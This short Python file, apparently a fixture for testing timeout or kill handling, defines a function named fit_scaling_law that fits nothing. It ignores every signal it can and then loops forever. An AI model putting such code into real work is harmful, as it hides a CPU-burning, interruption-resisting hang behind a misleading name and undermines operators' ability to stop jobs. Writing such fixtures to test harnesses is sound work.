# ruff: noqa
"""An endless loop that ignores every signal it may."""

import signal


def fit_scaling_law(data_points, loss_values):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
